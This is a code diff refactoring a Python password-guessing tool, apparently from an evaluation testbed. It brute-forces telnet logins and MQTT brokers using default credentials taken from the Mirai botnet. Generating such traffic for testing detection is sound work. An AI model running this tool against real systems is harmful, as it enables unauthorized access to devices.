@@ -1,81 +1,77 @@
-"""Guess passwords, one after the other: of a telnet login, or of an MQTT broker.
+"""Guess passwords, one after the other: of a telnet login, or of an MQTT broker."""
 
-python -m eval.testbed.tools.guesses telnet|mqtt ADDRESS PORT RATE
-"""
-
-import argparse
 import itertools
 import random
 import socket
 import time
-from collections.abc import Iterator, Sequence
+from collections.abc import Callable, Iterator
 
+from eval.testbed.tools.command import log_failure, tool
 from eval.testbed.tools.mqtt import connect_packet
 
+Guesses = Iterator[tuple[str, str]]
+
+app = tool()
 # The first of those that Mirai tried (Antonakakis et al. 2017, "Understanding the Mirai Botnet",
 # table 5).
 _USERS = ("root", "admin", "support", "user", "guest", "operator", "service", "mqtt")
 _PASSWORDS = (
-    "xc3511",
-    "vizxv",
-    "admin",
-    "888888",
-    "default",
-    "juantech",
-    "123456",
-    "54321",
-    "root",
-    "pass",
-    "1111",
+    *("xc3511", "vizxv", "admin", "888888", "default", "juantech", "123456"),
+    *("54321", "root", "pass", "1111"),
 )
 
 
-def main(arguments: Sequence[str] | None = None) -> None:
-    """Try ``RATE`` passwords a second until ended."""
-    parser = argparse.ArgumentParser(description="guess passwords")
-    parser.add_argument("service", choices=["telnet", "mqtt"])
-    parser.add_argument("address")
-    parser.add_argument("port", type=int)
-    parser.add_argument("rate", type=float)
-    given = parser.parse_args(arguments)
+@app.command()
+def telnet(address: str, port: int, rate: float) -> None:
+    """Guess until the server closes the connection, then connect again."""
+
+    def attempt(server: socket.socket, guesses: Guesses) -> None:
+        for guess in guesses:
+            for word, prompt in zip(guess, (b"ogin: ", b"assword: "), strict=True):
+                if not _receives(server, prompt):
+                    return
+                server.sendall(word.encode() + b"\r\n")
+            time.sleep(1 / rate)
+
+    _guess(address, port, rate, attempt)
+
+
+@app.command()
+def mqtt(address: str, port: int, rate: float) -> None:
+    """One guess a connection."""
+
+    def attempt(server: socket.socket, guesses: Guesses) -> None:
+        user, password = next(guesses)
+        client = f"{user}-{random.randrange(10**6)}"  # noqa: S311 - not a secret
+        server.sendall(connect_packet(client, user, password))
+        server.recv(16)
+
+    _guess(address, port, rate, attempt)
+
+
+def _guess(
+    address: str, port: int, rate: float, attempt: Callable[[socket.socket, Guesses], None]
+) -> None:
+    """Connect about ``rate`` times a second until ended."""
     guesses = itertools.cycle(itertools.product(_USERS, _PASSWORDS))
     while True:
         try:
-            with socket.create_connection((given.address, given.port), timeout=5) as server:
-                if given.service == "telnet":
-                    _telnet(server, guesses, given.rate)
-                else:
-                    _mqtt(server, *next(guesses))
+            with socket.create_connection((address, port), timeout=5) as server:
+                attempt(server, guesses)
         except OSError as error:
-            print(f"{given.address}:{given.port}: {error}", flush=True)  # noqa: T201 - becomes the tool's log
-        time.sleep(random.uniform(0.7, 1.3) / given.rate)  # noqa: S311 - a rhythm, not a secret
+            log_failure(address, port, error)
+        time.sleep(random.uniform(0.7, 1.3) / rate)  # noqa: S311 - a rhythm, not a secret
 
 
-def _telnet(server: socket.socket, guesses: Iterator[tuple[str, str]], rate: float) -> None:
-    """Guess until the server closes the connection."""
-    while True:
-        user, password = next(guesses)
-        for word, prompt in ((user, b"ogin: "), (password, b"assword: ")):
-            if not _heard(server, prompt):
-                return
-            server.sendall(word.encode() + b"\r\n")
-        time.sleep(1 / rate)
-
-
-def _heard(server: socket.socket, prompt: bytes) -> bool:
-    said = b""
-    while prompt not in said:
+def _receives(server: socket.socket, prompt: bytes) -> bool:
+    received = b""
+    while prompt not in received:
         more = server.recv(1024)
         if not more:
             return False
-        said += more
+        received += more
     return True
 
 
-def _mqtt(server: socket.socket, user: str, password: str) -> None:
-    server.sendall(connect_packet(f"{user}-{random.randrange(10**6)}", user, password))  # noqa: S311 - not a secret
-    server.recv(16)
-
-
 if __name__ == "__main__":
-    main()
+    app()
